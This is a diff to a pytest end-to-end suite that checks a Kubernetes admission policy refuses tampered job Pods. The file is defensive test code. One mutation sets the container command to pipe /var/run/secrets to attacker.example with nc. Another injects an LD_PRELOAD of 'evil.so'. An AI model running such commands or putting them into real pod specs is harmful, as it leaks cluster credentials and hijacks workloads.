@@ -12,6 +12,7 @@ Secret the policy does not allow failing its Job ``PodRefused``.
 from __future__ import annotations
 
 import copy
+import json
 import uuid
 from collections.abc import Callable, Iterator
 from pathlib import Path
@@ -22,8 +23,10 @@ import pytest
 from e2e.chartinstall import FULLNAME, RELEASE, fresh_namespace, helm, install
 from e2e.cluster import Cluster
 from e2e.kube import ApiError, Kube
+from pidispatch.api.models import JobSpec, TriggerSpec
 from pidispatch.contract import CONTAINER
 from pidispatch.forge.credentials import token_secret_name
+from pidispatch.jobflow.pod import pod_env
 from pidispatch.manifests.pod import PodInputs, WorkspaceInputs, job_pod
 from pidispatch.store.staging import session_subpath
 from testkit.wait import wait_until
@@ -35,7 +38,15 @@ TOKEN_SECRET = "gh-token"  # github.token.secretName
 MODEL_SECRET = "model-keys"  # job.credentials
 RUN_SECRET = "deploy-keys"  # jobPodPolicy.credentialSecrets: what a Trigger's run.secrets may name
 CA_CONFIGMAP = "forge-ca"
+JOB_IMAGE = "ghcr.io/pi-dispatch/job:test"  # job.image
+TRIGGER_IMAGE = "registry.example/team/job:1"  # jobPodPolicy.images: what a Trigger's run.image may name
+JOB_COMMAND = ["pidispatch", "runner"]  # job.command (the chart's default)
+JOB_ENV = {"PI_OFFLINE": "1"}  # job.env
 POLICY_DENIED = "denied request"
+# Every event and run fact the operator's jobflow/pod.py writes (each optional one set), as it writes them.
+OPERATOR_ENV = pod_env("job-1", JobSpec(trigger="t", forge="github", repository="acme/widgets", issue=1, pullRequest=2),
+                       TriggerSpec.model_validate({"on": {"event": "issue_comment.created", "phrase": "@pi"}, "run": {
+                           "model": "m", "piVersion": "1", "flow": "f", "command": "/c"}}))
 
 
 @pytest.fixture(scope="module")
@@ -46,7 +57,8 @@ def namespace(cluster: Cluster, kube: Kube, tmp_path_factory: pytest.TempPathFac
         install(cluster, home, ns, "--set", "github.authSource=pat", "--set", f"github.token.secretName={TOKEN_SECRET}",
                 "--set", f"github.caBundle.configMap={CA_CONFIGMAP}",
                 "--set-json", f'job.credentials={{"OPENAI_API_KEY":{{"secretName":"{MODEL_SECRET}","key":"k"}}}}',
-                "--set", f"jobPodPolicy.credentialSecrets[0]={RUN_SECRET}")
+                "--set", f"jobPodPolicy.credentialSecrets[0]={RUN_SECRET}", "--set", f"job.image={JOB_IMAGE}",
+                "--set", f"jobPodPolicy.images[0]={TRIGGER_IMAGE}", "--set-json", f"job.env={json.dumps(JOB_ENV)}")
         # The apiserver loads a new policy asynchronously (within a second or so): wait until it holds.
         wait_until("the policy in force", lambda: refuses(cluster, ns), timeout=30)
         yield ns
@@ -77,8 +89,9 @@ def refuses(cluster: Cluster, namespace: str) -> bool:
 def job_shaped(namespace: str, uid: str, **extra: Any) -> dict[str, Any]:
     """The operator's own job Pod manifest: token Secret, model key, CA bundle, session mount, size limit."""
     return job_pod(PodInputs(
-        job_name=f"job-{uid[:8]}", job_uid=uid, namespace=namespace, image="ghcr.io/pi-dispatch/job:test",
-        command=["pidispatch", "runner"], staging_claim=STAGING, session_subpath=session_subpath(uid),
+        job_name=f"job-{uid[:8]}", job_uid=uid, namespace=namespace, image=JOB_IMAGE,
+        command=JOB_COMMAND, env={**JOB_ENV, **OPERATOR_ENV}, staging_claim=STAGING,
+        session_subpath=session_subpath(uid),
         github_token=(token_secret_name(uid), "token"), credentials={"OPENAI_API_KEY": (MODEL_SECRET, "k")},
         resources={"requests": {"ephemeral-storage": "2Gi"}, "limits": {"ephemeral-storage": "12Gi"}},
         workspace=WorkspaceInputs(ca_bundle_configmap=CA_CONFIGMAP), workspace_size_limit=("10Gi", 10 * 2**30),
@@ -163,6 +176,84 @@ def _host_network(pod: dict[str, Any]) -> None:
     pod["spec"]["hostNetwork"] = True
 
 
+def _other_image(pod: dict[str, Any]) -> None:
+    container(pod)["image"] = "registry.example/any/image:1"
+
+
+def _other_command(pod: dict[str, Any]) -> None:
+    container(pod)["command"] = ["sh", "-c", "cat /var/run/secrets/* | nc attacker.example 80"]
+
+
+def _args(pod: dict[str, Any]) -> None:
+    container(pod)["args"] = ["--anything"]
+
+
+def _exec_probe(pod: dict[str, Any]) -> None:  # a command the kubelet runs in the container
+    container(pod)["livenessProbe"] = {"exec": {"command": ["sh", "-c", "id"]}}
+
+
+def _lifecycle_hook(pod: dict[str, Any]) -> None:
+    container(pod)["lifecycle"] = {"postStart": {"exec": {"command": ["sh", "-c", "id"]}}}
+
+
+def _second_container(pod: dict[str, Any]) -> None:
+    pod["spec"]["containers"].append({**copy.deepcopy(container(pod)), "name": "sidecar"})
+
+
+def _node_name(pod: dict[str, Any]) -> None:
+    pod["spec"]["nodeName"] = "some-node"
+
+
+def _other_service_account(pod: dict[str, Any]) -> None:
+    pod["spec"]["serviceAccountName"] = FULLNAME
+
+
+def _selinux(pod: dict[str, Any]) -> None:
+    container(pod)["securityContext"]["seLinuxOptions"] = {"type": "spc_t"}
+
+
+def _pod_selinux(pod: dict[str, Any]) -> None:
+    pod["spec"]["securityContext"]["seLinuxOptions"] = {"type": "spc_t"}
+
+
+def _apparmor_unconfined(pod: dict[str, Any]) -> None:
+    container(pod)["securityContext"]["appArmorProfile"] = {"type": "Unconfined"}
+
+
+def _pod_apparmor_unconfined(pod: dict[str, Any]) -> None:
+    pod["spec"]["securityContext"]["appArmorProfile"] = {"type": "Unconfined"}
+
+
+def _apparmor_annotation(pod: dict[str, Any]) -> None:
+    pod["metadata"]["annotations"] = {f"container.apparmor.security.beta.kubernetes.io/{CONTAINER}": "unconfined"}
+
+
+def _pod_seccomp_unconfined(pod: dict[str, Any]) -> None:
+    pod["spec"]["securityContext"]["seccompProfile"] = {"type": "Unconfined"}
+
+
+def _sysctl(pod: dict[str, Any]) -> None:
+    pod["spec"]["securityContext"]["sysctls"] = [{"name": "kernel.shm_rmid_forced", "value": "0"}]
+
+
+def _unmasked_proc(pod: dict[str, Any]) -> None:  # in a user namespace (the apiserver allows it only there)
+    pod["spec"]["hostUsers"] = False
+    container(pod)["securityContext"]["procMount"] = "Unmasked"
+
+
+def _literal_env(pod: dict[str, Any]) -> None:  # a name the operator never sets: the loader's, say
+    container(pod)["env"].append({"name": "LD_PRELOAD", "value": "/workspace/evil.so"})
+
+
+def _field_ref_env(pod: dict[str, Any]) -> None:
+    container(pod)["env"].append({"name": "NODE", "valueFrom": {"fieldRef": {"fieldPath": "spec.nodeName"}}})
+
+
+def _secret_env_without_its_volume_source(pod: dict[str, Any]) -> None:  # a projected token: not a volume we allow
+    pod["spec"]["volumes"].append({"name": "t", "projected": {"sources": [
+        {"serviceAccountToken": {"path": "token", "audience": "https://kubernetes.default.svc"}}]}})
+
+
 REFUSED: list[tuple[str, Callable[[dict[str, Any]], None], str]] = [
     ("a hostPath volume", _host_path, "no hostPath"),
     ("the host's network", _host_network, "no hostPath, host network"),
@@ -180,6 +271,26 @@ REFUSED: list[tuple[str, Callable[[dict[str, Any]], None], str]] = [
     ("the store claim", _other_claim, "mounts only emptyDirs"),
     ("a ServiceAccount token", _service_account_token, "no ServiceAccount token"),
     ("no Job owning it", _no_owner, "only job Pods"),
+    # Issue 40: what the job container runs, where, and as what.
+    ("another image", _other_image, "runs only the job image"),
+    ("another command", _other_command, "runs only the job image"),
+    ("arguments", _args, "runs only the job image"),
+    ("an exec probe", _exec_probe, "runs only the job image"),
+    ("a lifecycle hook", _lifecycle_hook, "runs only the job image"),
+    ("a second container", _second_container, "runs only the job image"),
+    ("a nodeName", _node_name, "no nodeName"),
+    ("another ServiceAccount", _other_service_account, "no ServiceAccount token"),
+    ("a container SELinux type", _selinux, "no SELinux options"),
+    ("a Pod SELinux type", _pod_selinux, "no SELinux options"),
+    ("an unconfined AppArmor profile", _apparmor_unconfined, "no SELinux options"),
+    ("a Pod's unconfined AppArmor profile", _pod_apparmor_unconfined, "no SELinux options"),
+    ("an AppArmor annotation", _apparmor_annotation, "no SELinux options"),
+    ("a Pod's unconfined seccomp profile", _pod_seccomp_unconfined, "no SELinux options"),
+    ("a sysctl", _sysctl, "no SELinux options"),
+    ("an unmasked /proc", _unmasked_proc, "no SELinux options"),
+    ("a literal env name the operator never sets", _literal_env, "literal values only for"),
+    ("an env value from a field", _field_ref_env, "reads only its own token Secret"),
+    ("a projected ServiceAccount token", _secret_env_without_its_volume_source, "mounts only emptyDirs"),
 ]
 
 
@@ -198,16 +309,37 @@ def test_the_operators_job_pod_is_allowed(cluster: Cluster, namespace: str) -> N
     assert {v["name"] for v in created["spec"]["volumes"]} == {"workspace", "ca-bundle", "session"}
 
 
+def test_a_job_pod_with_every_literal_the_operator_writes_is_allowed(cluster: Cluster, namespace: str) -> None:
+    """Issue 40: env values are held to the names the operator writes; this Pod sets each optional one (a
+    checkout, a subject, a moved head, an Enterprise host, a resume, a rethread, run.secrets) and runs the
+    image a Trigger's run.image names (jobPodPolicy.images)."""
+    uid = str(uuid.uuid4())
+    pod = job_pod(PodInputs(
+        job_name="full", job_uid=uid, namespace=namespace, image=TRIGGER_IMAGE, command=JOB_COMMAND,
+        env={**JOB_ENV, **OPERATOR_ENV}, staging_claim=STAGING, session_subpath=session_subpath(uid),
+        host_resume=True, rethread="lineage", github_token=(token_secret_name(uid), "token"),
+        credentials={"OPENAI_API_KEY": (MODEL_SECRET, "k")}, run_secrets=(RUN_SECRET,),
+        workspace=WorkspaceInputs(
+            checkout={"url": "https://ghe.example/acme/w.git", "ref": "main", "sha": "0" * 40, "branch": "pi/i-1"},
+            subject={"title": "t", "body": "b"}, previous={"sha": "1" * 40}, gh_host="ghe.example",
+            ca_bundle_configmap=CA_CONFIGMAP),
+        workspace_size_limit=("10Gi", 10 * 2**30), release=RELEASE))
+    names = {e["name"] for e in container(pod)["env"]}
+    assert {"PI_CHECKOUT", "PI_SUBJECT", "PI_PREVIOUS_COMMIT", "GH_HOST", "GH_ENTERPRISE_TOKEN", "PI_SESSION_RETHREAD",
+            "PI_RUN_SECRETS", "PI_FLOW", "PI_COMMAND", "PI_OFFLINE"} <= names, names
+    create(operator_client(cluster, namespace), pod)
+
+
 def test_a_job_pod_without_a_session_or_checkout_is_allowed(cluster: Cluster, namespace: str) -> None:
     uid = str(uuid.uuid4())
-    pod = job_pod(PodInputs(job_name="plain", job_uid=uid, namespace=namespace, image="job:test",
-                            command=["pidispatch", "runner"]))
+    pod = job_pod(PodInputs(job_name="plain", job_uid=uid, namespace=namespace, image=JOB_IMAGE,
+                            command=JOB_COMMAND))
     create(operator_client(cluster, namespace), pod)
 
 
 def test_a_job_pod_mounting_the_listed_run_secret_is_allowed(cluster: Cluster, namespace: str) -> None:
-    pod = job_pod(PodInputs(job_name="keyed", job_uid=str(uuid.uuid4()), namespace=namespace, image="job:test",
-                            command=["pidispatch", "runner"], run_secrets=(RUN_SECRET,)))
+    pod = job_pod(PodInputs(job_name="keyed", job_uid=str(uuid.uuid4()), namespace=namespace, image=JOB_IMAGE,
+                            command=JOB_COMMAND, run_secrets=(RUN_SECRET,)))
     created = create(operator_client(cluster, namespace), pod)
     assert {"name": "run-secret-0", "secret": {"secretName": RUN_SECRET, "defaultMode": 0o440}} in created["spec"][
         "volumes"]
@@ -215,8 +347,8 @@ def test_a_job_pod_mounting_the_listed_run_secret_is_allowed(cluster: Cluster, n
 
 @pytest.mark.parametrize("secret", [MODEL_SECRET, "unlisted"], ids=["a chart Secret not listed", "any other"])
 def test_a_job_pod_mounting_a_secret_not_listed_is_refused(cluster: Cluster, namespace: str, secret: str) -> None:
-    pod = job_pod(PodInputs(job_name="keyed", job_uid=str(uuid.uuid4()), namespace=namespace, image="job:test",
-                            command=["pidispatch", "runner"], run_secrets=(secret,)))
+    pod = job_pod(PodInputs(job_name="keyed", job_uid=str(uuid.uuid4()), namespace=namespace, image=JOB_IMAGE,
+                            command=JOB_COMMAND, run_secrets=(secret,)))
     with pytest.raises(ApiError) as refused:
         create(operator_client(cluster, namespace), pod)
     assert refused.value.status in (403, 422) and "the Secrets of jobPodPolicy.credentialSecrets (deploy-keys" in (
